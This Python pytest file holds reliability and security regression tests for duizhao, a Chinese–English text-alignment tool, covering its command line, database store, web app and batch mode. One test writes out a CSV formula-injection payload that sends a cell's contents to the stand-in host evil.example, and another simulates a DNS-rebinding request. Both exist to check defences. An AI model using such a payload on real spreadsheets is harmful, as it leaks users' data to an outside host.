"""Regression tests for the reliability audit (`../shared/reviews/reliability.md`), one per FAIL id, and for
the findings of the project's own adversarial audit (ids `X…`, listed in BENCHMARKS.md "Audit")."""
from __future__ import annotations

import json
import os
import shutil
import sqlite3
import subprocess
import sys
import warnings
from pathlib import Path

import pytest

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient

from duizhao.cli import run
from duizhao.glossary import Term, dumps
from duizhao.store import Store, StoreError, content_hash
from duizhao.web.app import create_app
from test_store import sample_alignment

ROOT = Path(__file__).resolve().parents[1]
README = ROOT / "examples" / "readout.txt"
PAGE = README.read_text(encoding="utf-8")


def duizhao(*args: str, **kwargs) -> subprocess.CompletedProcess:
    """The installed command in a child process (for what needs real file descriptors and signals)."""
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src"), "OMP_NUM_THREADS": "1"}
    env.update(kwargs.pop("env", {}))
    streams = {"stderr": subprocess.PIPE} if "stdout" in kwargs else {"capture_output": True}
    return subprocess.run([sys.executable, "-c", "from duizhao.cli import main; main()", *args],
                          env=env, timeout=120, **streams, **kwargs)


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> Path:
    """The example page stored with --fast (no encoder)."""
    path = tmp_path_factory.mktemp("corpus") / "corpus.db"
    assert run(["add", str(README), "--fast", "--db", str(path)]) == 0
    return path


# --- F: environment ------------------------------------------------------------------------------------

@pytest.mark.slow  # a real process (or a batch pool): seconds each
def test_R_F2_search_into_a_closed_pipe_exits_0(corpus):
    child = subprocess.Popen(
        [sys.executable, "-c", "from duizhao.cli import main; main()", "search", "双方", "--db", str(corpus),
         "--limit", "500", "--json"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
    )
    assert child.stdout is not None
    child.stdout.read(10)
    child.stdout.close()  # what `| head -c 10` does
    _, err = child.communicate(timeout=60)
    assert child.returncode == 0, err
    assert b"Traceback" not in err


@pytest.mark.slow  # a real process (or a batch pool): seconds each
def test_R_F5_closed_stdout_is_one_error_line(corpus):
    done = duizhao("search", "双方", "--db", str(corpus), stdout=subprocess.DEVNULL,
                   preexec_fn=lambda: os.close(1))
    assert done.returncode == 2
    assert done.stderr.decode().splitlines() == [
        "Error: standard output is closed: give --output FILE, or run the command with stdout open"
    ]


@pytest.mark.slow  # a real process (or a batch pool): seconds each
def test_R_F10_ascii_stdout_escapes_chinese_instead_of_failing(corpus):
    done = duizhao("search", "双方", "--db", str(corpus), "--limit", "1", "--json",
                   env={"PYTHONIOENCODING": "ascii"})
    assert done.returncode == 0, done.stderr
    record = json.loads(done.stdout.decode("ascii").splitlines()[0])
    assert record["term"] == "双方" and "双方" in record["text"]


def test_R_F18_glossary_csv_neutralises_formulas():
    sentence = PAGE.splitlines()[2]
    hostile = Term("双方", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "term", 2,
                   f"=HYPERLINK(1){sentence}", "+co-occurrence", 1.0)
    text = dumps([hostile, Term("双方", "@sides", "term", 2, f"-{sentence}", "dictionary", 0.5)], "csv")
    rows = [line for line in text.splitlines()[1:]]
    assert rows[0].startswith('双方,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")",term,2,\'+co-occurrence,1.0,\'=HYPERLINK(1)')
    assert rows[1].startswith(f"双方,'@sides,term,2,dictionary,0.5,'-{sentence[:10]}")


# --- C: the store ---------------------------------------------------------------------------------------

def _foreign_app(path: Path, version: int) -> None:
    db = sqlite3.connect(path)
    db.execute("create table documents(id, body)")
    db.execute("create table schema_version(version)")
    db.execute("insert into schema_version values (?)", (version,))
    db.commit()
    db.close()


def test_R_C11_another_programs_database_is_refused_and_not_written(tmp_path, capsys):
    path = tmp_path / "app.db"
    _foreign_app(path, 2)
    before = path.read_bytes()
    assert run(["add", str(README), "--fast", "--db", str(path)]) == 2
    assert capsys.readouterr().err.strip().splitlines()[-1] == (
        f"Error: {path} is a database of something else (its documents table is not duizhao's), not a "
        "duizhao corpus: pass another file with --db"
    )
    assert path.read_bytes() == before  # not switched to WAL
    assert not Path(f"{path}-wal").exists()


def test_R_C12_a_newer_corpus_is_refused_before_any_write(tmp_path):
    path = tmp_path / "new.db"
    with Store(path) as store:
        store._db.execute("PRAGMA journal_mode=DELETE")
        store._db.execute("UPDATE schema_version SET version = 99")
    before = path.read_bytes()
    with pytest.raises(StoreError, match="written by a newer duizhao"):
        Store(path)
    assert path.read_bytes() == before


def _as_user(args: list[str]) -> list[str]:
    """`args` run so that file permissions hold: root ignores them unless it drops CAP_DAC_OVERRIDE."""
    if os.geteuid() != 0:
        return args
    if not shutil.which("setpriv"):
        pytest.skip("running as root without setpriv: file permissions cannot be tested")
    return ["setpriv", "--bounding-set=-dac_override,-dac_read_search", *args]


def _cli(*args: str) -> list[str]:
    return [sys.executable, "-c", "from duizhao.cli import main; main()", *args]


def _user_run(*args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src"), "OMP_NUM_THREADS": "1"}
    return subprocess.run(_as_user(_cli(*args)), capture_output=True, env=env, timeout=120)


def test_R_C14_add_into_a_read_only_corpus_is_one_line_before_aligning(corpus, tmp_path):
    path = tmp_path / "ro.db"
    with Store(path) as store:
        store._db.execute("PRAGMA journal_mode=DELETE")
    path.chmod(0o444)
    done = _user_run("add", str(README), "--db", str(path))  # no --fast: refused before the encoder loads
    assert done.returncode == 2
    assert done.stderr.decode().strip().splitlines() == [
        f"Error: cannot use {path} (attempt to write a readonly database): check its permissions, that no "
        "other program holds it, and free space; or pass another --db"
    ]


@pytest.mark.slow  # a real process (or a batch pool): seconds each
def test_R_C15_a_corpus_in_a_read_only_folder_can_be_searched_and_served(corpus, tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    path = folder / "c.db"
    shutil.copy(corpus, path)
    before = path.read_bytes()
    path.chmod(0o444)
    folder.chmod(0o555)
    try:
        done = _user_run("search", "双方", "--db", str(path), "--limit", "1", "--json")
        assert done.returncode == 0, done.stderr
        assert json.loads(done.stdout.decode().splitlines()[0])["term"] == "双方"
        done = _user_run("glossary", "--db", str(path), "--format", "jsonl")
        assert done.returncode == 0, done.stderr
        assert sorted(os.listdir(folder)) == ["c.db"] and path.read_bytes() == before
    finally:
        folder.chmod(0o755)


def test_R_C15_serve_reads_a_read_only_corpus_and_refuses_its_edits(corpus, tmp_path, monkeypatch):
    import duizhao.store as store_module

    path = tmp_path / "c.db"
    shutil.copy(corpus, path)
    real = store_module.Store.__init__

    def no_writes(self, *args, readonly: bool = False, **kwargs) -> None:  # a store whose file is read-only
        if not readonly:
            raise StoreError(f"cannot use {path} (attempt to write a readonly database)")
        real(self, *args, readonly=True, **kwargs)

    monkeypatch.setattr(store_module.Store, "__init__", no_writes)
    with TestClient(create_app(path), raise_server_exceptions=False) as client:
        assert client.get("/").status_code == 200
        assert client.get("/search", params={"q": "双方"}).status_code == 200
        assert client.get("/doc/1").status_code == 200
        refused = client.post("/doc/1/edit", data={"action": "review-document"})
        assert refused.status_code == 400
        assert "c.db is read-only here" in refused.text


@pytest.mark.slow  # a real process (or a batch pool): seconds each
def test_R_C17_disk_full_during_add_is_one_line_and_the_corpus_intact(corpus, tmp_path):
    import resource

    path = tmp_path / "full.db"
    shutil.copy(corpus, path)
    page = tmp_path / "other.txt"  # another document: the example page with its paragraphs reversed
    page.write_text("\n\n".join(reversed(PAGE.split("\n\n"))), encoding="utf-8")

    def small_files() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (32768, 32768))  # the WAL cannot grow past 32 KB

    done = duizhao("add", str(page), "--fast", "--db", str(path), preexec_fn=small_files)
    lines = done.stderr.decode().strip().splitlines()
    assert done.returncode == 2, lines
    assert "Traceback" not in done.stderr.decode()
    assert lines[-1].startswith("Error: ") and "nothing of this change was stored" in lines[-1]
    with sqlite3.connect(path) as db:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert db.execute("SELECT COUNT(*) FROM documents").fetchone() == (1,)


def test_R_dedup_the_same_page_in_another_encoding_is_stored_once(tmp_path, capsys):
    gbk = tmp_path / "readout-gbk.txt"
    gbk.write_bytes(PAGE.replace("\n", "\r\n").encode("gb18030"))
    path = tmp_path / "c.db"
    assert run(["add", str(README), "--fast", "--db", str(path)]) == 0
    assert run(["add", str(gbk), "--fast", "--db", str(path)]) == 0
    assert capsys.readouterr().err.splitlines()[-2] == f"{gbk}: already present as document 1"


# --- D: the web app -------------------------------------------------------------------------------------

TOKEN = "a-test-token-of-24-chars"


def test_R_D2_serving_beyond_loopback_needs_allow_remote(corpus, capsys):
    assert run(["serve", "--db", str(corpus), "--host", "0.0.0.0", "--port", "9"]) == 2
    assert capsys.readouterr().err.strip() == (
        "Error: --host 0.0.0.0 would let anyone who can reach this machine read and edit the corpus: keep "
        "the default 127.0.0.1, or add --allow-remote to serve it with a secret token"
    )
    assert run(["serve", "--db", str(corpus), "--host", "0.0.0.0", "--allow-remote", "--token", "short"]) == 2
    assert "--token must be at least 16 characters" in capsys.readouterr().err


def test_R_D2_a_remote_server_needs_its_token_and_checks_the_host(corpus):
    app = create_app(corpus, token=TOKEN)
    with TestClient(app, base_url="http://192.0.2.7:8000", raise_server_exceptions=False,
                    follow_redirects=False) as client:
        assert client.get("/").status_code == 401
        assert client.post("/doc/1/edit", data={"action": "review-document"}).status_code == 401
        assert client.get("/", params={"token": "x" * 24}).status_code == 401
        entered = client.get("/", params={"token": TOKEN, "page": "1"})
        assert entered.status_code == 303 and entered.headers["location"] == "/?page=1"
        assert "httponly" in entered.headers["set-cookie"].lower()
        assert "samesite=strict" in entered.headers["set-cookie"].lower()
        assert client.get("/").status_code == 200  # the cookie
        # DNS rebinding: the attacker's own name in Host, even with the cookie and same-origin headers
        rebound = client.post("/doc/2/edit", data={"action": "review-document"},
                              headers={"Host": "evil.example:8000", "Origin": "http://evil.example:8000",
                                       "Sec-Fetch-Site": "same-origin"})
        assert rebound.status_code == 421
    with TestClient(app, base_url="http://192.0.2.7:8000", raise_server_exceptions=False) as script:
        assert script.get("/doc/1", headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 200
    with Store(corpus, readonly=True) as store:
        assert [d.reviewed for d in store.documents()] == [False]


def test_R_D11_no_page_can_be_framed(corpus):
    with TestClient(create_app(corpus), raise_server_exceptions=False) as client:
        for url in ("/", "/doc/1", "/search?q=%E5%8F%8C%E6%96%B9", "/static/app.css", "/doc/999"):
            response = client.get(url)
            assert response.headers["x-frame-options"] == "DENY", url
            assert response.headers["content-security-policy"] == "frame-ancestors 'none'", url


def test_R_D19_search_limit_is_capped_and_the_index_paged(tmp_path):
    path = tmp_path / "many.db"
    with Store(path) as store:
        for number in range(230):
            store.add(sample_alignment(), content_hash(f"page {number}".encode()))
    with TestClient(create_app(path), raise_server_exceptions=False) as client:
        first = client.get("/")
        assert first.text.count('href="/doc/') == 100
        assert "page 1 of 3 (230 documents)" in first.text
        assert 'href="/?page=2"' in first.text
        last = client.get("/?page=3").text
        assert "/doc/230" in last and "/doc/200\"" not in last
        hits = client.get("/search", params={"q": "双方", "limit": "1000000"})
        assert hits.status_code == 200
        assert hits.text.count('<tr class="hit"') == 500  # of 230 × 2 + … links with 双方: capped


# --- A: bounded work on hostile input -------------------------------------------------------------------

def test_R_A44_a_long_run_of_one_character_is_not_tagged(monkeypatch):
    import jieba.posseg

    from duizhao import names

    names.pos_tags.cache_clear()
    sentence = PAGE.splitlines()[2]  # a real Chinese sentence after the run
    tagged: list[int] = []
    real_cut = jieba.posseg.cut
    monkeypatch.setattr(jieba.posseg, "cut", lambda text: (tagged.append(len(text)), real_cut(text))[1])
    text = "中" * 10_000 + "。" + sentence
    tags = names.pos_tags(text)
    assert sum(tagged) <= len(sentence) + 200  # the run itself never reaches the tagger
    assert "".join(word for word, _ in tags) == text  # positions still add up
    assert [name.text for name in names.zh_names(text)] == [name.text for name in names.zh_names(sentence)]


def test_R_A44_compound_names_are_looked_up_only_up_to_the_longest_name():
    from duizhao.names import NameIndex, proper_parts

    index = NameIndex.get()
    assert index.longest_proper == 19
    assert proper_parts("美中关系", index) == ["美中"]
    pieces: list[int] = []

    class Counting(set):
        def __contains__(self, piece: object) -> bool:
            pieces.append(len(str(piece)))
            return super().__contains__(piece)

    index_copy = NameIndex.__new__(NameIndex)
    index_copy.__dict__.update(index.__dict__, proper=Counting(index.proper))
    assert proper_parts("中" * 5_000, index_copy) == []
    assert max(pieces) == 19 and len(pieces) <= 5_000 * 19  # not 5,000² / 2 slices


# --- E: batch -------------------------------------------------------------------------------------------

def _pieces_of_the_page(folder: Path, count: int) -> list[Path]:
    """`count` small bilingual documents: windows of the example page's aligned paragraphs."""
    paragraphs = [p for p in PAGE.split("\n") if p.strip()]
    first_en = next(i for i, p in enumerate(paragraphs) if p.startswith("Secretary"))
    zh, en = paragraphs[:first_en], paragraphs[first_en:]
    n = min(len(zh), len(en))
    windows = [(start, size) for size in range(2, 7) for start in range(n - size)]
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for number, (start, size) in enumerate(windows[:count]):
        path = folder / f"doc{number:03d}.txt"
        path.write_text("\n\n".join(zh[start:start + size] + en[start:start + size]) + "\n", encoding="utf-8")
        paths.append(path)
    return paths


def _descendants(pid: int) -> set[int]:
    children: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rpartition(")")[2].split()
            except OSError:
                continue
            children.setdefault(int(fields[1]), []).append(int(entry.name))
    found, todo = set(), [pid]
    while todo:
        for child in children.get(todo.pop(), []):
            found.add(child)
            todo.append(child)
    return found


def _alive(pid: int) -> bool:
    try:
        return (Path("/proc") / str(pid) / "stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except OSError:
        return False


@pytest.mark.slow
@pytest.mark.parametrize("how", ["SIGKILL", "SIGTERM"])
def test_R_E5_E7_workers_die_with_a_killed_driver(tmp_path, how):
    import signal
    import time

    _pieces_of_the_page(tmp_path / "crawl", 40)
    driver = subprocess.Popen(
        _cli("batch", str(tmp_path / "crawl"), "--output", str(tmp_path / "out"), "--fast", "--workers", "2"),
        env={**os.environ, "PYTHONPATH": str(ROOT / "src"), "OMP_NUM_THREADS": "1"},
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 120
    pool: set[int] = set()
    while len(pool) < 4 and time.monotonic() < deadline and driver.poll() is None:  # tracker, forkserver, 2 workers
        pool = _descendants(driver.pid)
        time.sleep(0.05)
    assert len(pool) >= 4, "the pool did not start"
    driver.send_signal(getattr(signal, how))
    driver.wait(30)
    deadline = time.monotonic() + 15
    while any(map(_alive, pool)) and time.monotonic() < deadline:
        time.sleep(0.1)
    left = [pid for pid in pool if _alive(pid)]
    for pid in left:  # never leave them behind, even when the test fails
        os.kill(pid, signal.SIGKILL)
    assert left == []


@pytest.mark.slow  # a real process (or a batch pool): seconds each
def test_R_E8_E9_a_fifo_or_device_among_the_inputs_is_an_error_record_not_a_hang(tmp_path):
    crawl = tmp_path / "crawl"
    _pieces_of_the_page(crawl, 1)
    os.mkfifo(crawl / "pipe")
    done = duizhao("batch", "crawl", "/dev/zero", "--output", "out", "--fast", "--workers", "1",
                   "--format", "jsonl", cwd=tmp_path)
    assert done.returncode == 1, done.stderr  # some documents failed: exit 1, with the summary
    assert done.stderr.decode().splitlines()[-1] == (
        "corpus out: 1 aligned, 2 failed (errors.jsonl); 1 link, 3 sentences"
    )
    errors = [json.loads(line) for line in (tmp_path / "out" / "errors.jsonl").read_text().splitlines()]
    assert errors == [
        {"path": "/dev/zero", "doc_id": "", "error": "InputError",
         "reason": "/dev/zero is not a regular file (a pipe, device or socket): copy its content into a file to align it"},
        {"path": "crawl/pipe", "doc_id": "", "error": "InputError",
         "reason": "crawl/pipe is not a regular file (a pipe, device or socket): copy its content into a file to align it"},
    ]


@pytest.mark.slow  # a real process (or a batch pool): seconds each
def test_R_E16_error_reasons_name_the_input_as_given(tmp_path):
    crawl = tmp_path / "crawl"
    _pieces_of_the_page(crawl, 1)
    (crawl / "only-english.txt").write_text(PAGE.split("\n\n")[-1] + "\n", encoding="utf-8")
    done = duizhao("batch", "crawl", "--output", "out", "--fast", "--workers", "1", "--format", "jsonl",
                   cwd=tmp_path)
    assert done.returncode == 1
    [error] = [json.loads(line) for line in (tmp_path / "out" / "errors.jsonl").read_text().splitlines()]
    assert error["path"] == "crawl/only-english.txt"
    assert str(tmp_path) not in error["reason"] and "crawl/only-english.txt" in error["reason"]
    assert str(tmp_path) not in done.stderr.decode()


def test_R_ray_start_failure_leaves_no_manifest(tmp_path, monkeypatch):
    from duizhao import batch
    from duizhao.errors import ConfigError

    _pieces_of_the_page(tmp_path / "crawl", 2)

    def no_ray(*args, **kwargs):
        raise ConfigError("cannot reach a Ray cluster at ray://head:10001: check --address")
        yield {}

    monkeypatch.setattr(batch, "_run_ray", no_ray)
    with pytest.raises(ConfigError):
        batch.run_batch([tmp_path / "crawl"], tmp_path / "out", engine="ray", fast=True)
    assert not (tmp_path / "out" / "manifest.json").exists()


def test_R_A36_a_document_over_the_sentence_limit_is_refused(monkeypatch, capsys, tmp_path):
    from duizhao import pipeline

    monkeypatch.setattr(pipeline, "MAX_SENTENCES", 20)  # the page has 28 Chinese sentences
    assert run(["align", str(README), "--fast", "-o", str(tmp_path / "out.jsonl")]) == 2
    assert capsys.readouterr().err.strip() == (
        f"Error: {README} has 28 Chinese sentences, over the limit of 20 for one document (memory grows "
        "with it): split it into documents (one per article or chapter) and align them with `duizhao batch`, or "
        "raise the limit with `duizhao align --max-sentences N` where the machine has the memory"
    )
    assert list(tmp_path.iterdir()) == []
    # The limit is the user's to raise (a book on a machine with the memory) or lower, for this run only
    assert run(["align", str(README), "--fast", "--max-sentences", "10", "-o", str(tmp_path / "out.jsonl")]) == 2
    assert "has 16 Chinese paragraphs, over the limit of 10 for one document" in capsys.readouterr().err
    assert run(["align", str(README), "--fast", "--max-sentences", "30", "-o", str(tmp_path / "out.jsonl")]) == 0
    assert len((tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()) == 28
    capsys.readouterr()
    assert run(["align", str(README), "--fast", "-o", str(tmp_path / "again.jsonl")]) == 2  # the default again


# --- A: inputs that are not a Chinese–English page ------------------------------------------------------

JAPANESE = ROOT / "tests" / "data" / "japanese" / "mofa-2018-12-19.txt"


def test_R_A24_a_japanese_page_is_refused_not_aligned_as_chinese(capsys, tmp_path):
    assert run(["align", str(JAPANESE), "--fast", "-o", str(tmp_path / "out.jsonl")]) == 2
    assert capsys.readouterr().err.strip() == (
        f"Error: the Chinese side of {JAPANESE} looks Japanese: it has 116 kana characters beside 97 Han "
        "characters; duizhao aligns Chinese with English"
    )
    assert list(tmp_path.iterdir()) == []


def test_R_A25_japanese_only_is_called_japanese(capsys, tmp_path):
    only = tmp_path / "ja.txt"
    only.write_text(JAPANESE.read_text(encoding="utf-8").split("\n\nMr.")[0] + "\n", encoding="utf-8")
    assert run(["align", str(only), "--fast"]) == 2
    assert "looks Japanese" in capsys.readouterr().err


def _intertext(path: Path) -> Path:
    """A Chinese InterText text file of the page's first Chinese paragraphs, one sentence each."""
    sentences = [p for p in PAGE.split("\n") if p.strip()][:3]
    body = "".join(f'<p id="{n}"><s id="{n}:1">{s}</s></p>' for n, s in enumerate(sentences, 1))
    path.write_text(f'<?xml version="1.0" encoding="utf-8"?>\n<text>{body}</text>\n', encoding="utf-8")
    return path


def test_R_A46_an_xml_file_given_as_a_page_is_refused(capsys, tmp_path):
    copy = _intertext(tmp_path / "it_zh.xml")
    assert run(["align", str(copy), "--fast", "-o", str(tmp_path / "out.jsonl")]) == 2
    assert capsys.readouterr().err.strip() == (
        f"Error: {copy} is an XML file, not a bilingual page: give InterText files with --zh-xml and "
        "--en-xml, or the page's text or HTML"
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["it_zh.xml"]


def _deep_page(levels: int) -> str:
    paragraphs = [p for p in PAGE.split("\n") if p.strip()]
    first_en = next(i for i, p in enumerate(paragraphs) if p.startswith("Secretary"))
    zh, en = paragraphs[:first_en], paragraphs[first_en:]
    html = lambda items: "".join(f"<p>{p}</p>" for p in items)  # noqa: E731
    deep = "<div>" * levels + html(zh[len(zh) // 2:]) + html(en[len(en) // 2:]) + "</div>" * levels
    return f"<html><body><article>{html(zh[:len(zh) // 2])}{html(en[:len(en) // 2])}{deep}</article></body></html>"


@pytest.mark.slow  # a real process (or a batch pool): seconds each
def test_R_A41_html_nested_too_deep_is_refused_not_cut(capsys, tmp_path):
    from duizhao.ingest import load_text

    page = tmp_path / "deep.html"
    page.write_text(_deep_page(300), encoding="utf-8")
    assert run(["align", str(page), "--fast", "-o", str(tmp_path / "out.jsonl")]) == 2
    assert capsys.readouterr().err.strip() == (
        f"Error: the HTML page {page} nests its elements deeper than 250 levels, so the HTML reader would lose "
        "the deeper text: save the page's text as a .txt file (select all, copy) and align that"
    )
    shallow = load_text(_deep_page(200), name="shallow.html")  # below the limit every paragraph is read
    assert (len(shallow.zh), len(shallow.en)) == (len(load_text(_deep_page(0), name="flat.html").zh),
                                                  len(load_text(_deep_page(0), name="flat.html").en))


def test_R_B16_intertext_files_have_the_size_limit(tmp_path, monkeypatch):
    from duizhao.errors import InputError
    from duizhao.ingest import encoding, intertext

    chapter = _intertext(tmp_path / "it_zh.xml")
    assert len(intertext.read_text(chapter).sentences) == 3
    monkeypatch.setattr(encoding, "DEFAULT_MAX_BYTES", 100)
    with pytest.raises(InputError, match=r"is 393 bytes, over the 100 bytes limit of one document: split the InterText"):
        intertext.read_text(chapter)
